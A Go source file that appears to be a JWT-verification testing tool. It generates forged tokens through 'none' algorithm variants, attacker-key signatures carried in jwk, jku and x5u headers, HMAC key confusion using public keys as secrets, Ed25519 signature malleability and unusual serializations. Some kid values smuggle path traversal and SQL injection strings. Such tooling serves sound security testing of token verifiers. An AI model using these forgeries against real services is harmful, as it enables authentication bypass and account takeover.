package main

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"hash"
	"maps"
	"math/big"
	"slices"
	"strings"

	"github.com/go-jose/go-jose/v4"
)

// jwt is an access token in its parts.
type jwt struct {
	header             map[string]any
	payload, signature []byte
}

func parseJWT(text string) (t jwt, err error) {
	parts := strings.Split(text, ".")
	if len(parts) != 3 || slices.Contains(parts, "") {
		return t, errors.New("the access token has not three parts")
	}
	var header []byte
	for i, to := range []*[]byte{&header, &t.payload, &t.signature} {
		if *to, err = base64.RawURLEncoding.DecodeString(parts[i]); err != nil {
			return t, err
		}
	}
	return t, json.Unmarshal(header, &t.header)
}

// with returns the token with other members in its header, of which those that are nil are left out.
func (t jwt) with(members fields) jwt {
	t.header = maps.Clone(t.header)
	for name, value := range members {
		if t.header[name] = value; value == nil {
			delete(t.header, name)
		}
	}
	return t
}

// input returns what is signed.
func (t jwt) input() string {
	header, err := json.Marshal(t.header)
	if err != nil {
		panic(err) // it came of JSON
	}
	return base64.RawURLEncoding.EncodeToString(header) + "." + base64.RawURLEncoding.EncodeToString(t.payload)
}

// signed returns the token with another signature.
func (t jwt) signed(sign func(input []byte) []byte) string {
	input := t.input()
	return input + "." + base64.RawURLEncoding.EncodeToString(sign([]byte(input)))
}

// as returns a signature whatever is signed.
func as(signature []byte) func([]byte) []byte { return func([]byte) []byte { return signature } }

// unsigned returns tokens that say that there is no signature.
func (t jwt) unsigned() (all []string) {
	for _, algorithm := range []any{"none", "None", "NONE", "nOnE", "", nil, "null", "HS256", "EdDSA"} {
		for _, kid := range []any{t.header["kid"], nil} {
			other := t.with(fields{"alg": algorithm, "kid": kid})
			all = append(all, other.signed(as(nil)), other.signed(as(t.signature)), other.input())
		}
	}
	return all
}

// ownKey returns tokens that a key of the attacker's has signed, which some of them bring along.
func (t jwt) ownKey(kids []any) (all []string, err error) {
	public, private, err := ed25519.GenerateKey(nil)
	if err != nil {
		return nil, err
	}
	curve, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	signEd := func(input []byte) []byte { return ed25519.Sign(private, input) }
	signES := func(input []byte) []byte {
		digest := sha256.Sum256(input)
		r, s, err := ecdsa.Sign(rand.Reader, curve, digest[:])
		if err != nil {
			panic(err) // it has all it needs
		}
		return append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
	}
	jwk := jose.JSONWebKey{Key: public, KeyID: "own", Algorithm: "EdDSA", Use: "sig"}
	for _, kid := range append(kids, "own", "", "../../../../dev/null", "' OR '1'='1", nil) {
		for _, more := range []fields{
			{}, {"jwk": jwk}, {"jku": "http://127.0.0.1:9/jwks.json"}, {"x5u": "http://127.0.0.1:9/"},
			{"crit": []string{"own"}, "own": true}, {"typ": "JWT"}, {"b64": false, "crit": []string{"b64"}},
		} {
			other := t.with(more).with(fields{"kid": kid})
			all = append(all, other.with(fields{"alg": "EdDSA"}).signed(signEd), other.with(fields{"alg": "ES256"}).signed(signES))
		}
	}
	return all, nil
}

// confused returns tokens that a public text has signed, as if it were a secret.
func (t jwt) confused(secrets [][]byte, kids []any) (all []string) {
	hashes := map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New}
	for _, algorithm := range slices.Sorted(maps.Keys(hashes)) {
		for _, secret := range secrets {
			for _, kid := range kids {
				all = append(all, t.with(fields{"alg": algorithm, "kid": kid}).signed(func(input []byte) []byte {
					mac := hmac.New(hashes[algorithm], secret)
					mac.Write(input)
					return mac.Sum(nil)
				}))
			}
		}
	}
	return all
}

// publicTexts returns all that somebody could take for a secret.
func publicTexts(body []byte, set jose.JSONWebKeySet) (all [][]byte, err error) {
	all = [][]byte{body, nil}
	for _, key := range set.Keys {
		text, err := key.MarshalJSON()
		if err != nil {
			return nil, err
		}
		der, err := x509.MarshalPKIXPublicKey(key.Key)
		if err != nil {
			return nil, err
		}
		block := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		all = append(all, text, der, block, []byte(strings.TrimSpace(string(block))), []byte(key.KeyID))
		if raw, isEd25519 := key.Key.(ed25519.PublicKey); isEd25519 {
			all = append(all, raw, []byte(base64.RawURLEncoding.EncodeToString(raw)))
		}
	}
	return all, nil
}

// groupOrder is that of the base point of Ed25519, RFC 8032 §5.1.
var groupOrder, _ = new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)

// malleable returns an Ed25519 signature that is good for whoever does not look at the size of its second half.
func malleable(signature []byte) []byte {
	if len(signature) != ed25519.SignatureSize {
		return nil
	}
	second := slices.Clone(signature[32:]) // little-endian
	slices.Reverse(second)
	sum := new(big.Int).Add(new(big.Int).SetBytes(second), groupOrder).FillBytes(make([]byte, 33)) // of ES256 it may be longer
	slices.Reverse(sum)
	return append(slices.Clone(signature[:32]), sum[:32]...)
}

// serializations returns what else than three parts may be taken for a token.
func serializations(token string) []string {
	parts := strings.Split(token, ".")
	header, payload, signature := parts[0], parts[1], parts[2]
	return []string{
		header + "." + payload, header + ".." + signature, "." + payload + "." + signature,
		token + ".", token + ".e30", "." + token,
		fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, header, payload, signature),
		fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, payload, header, signature),
		header + "." + payload + "." + signature + "." + payload + "." + signature, "e30." + payload + "." + signature,
		token + " " + token, "Bearer " + token, header + "." + payload + "." + signature + "~",
	}
}
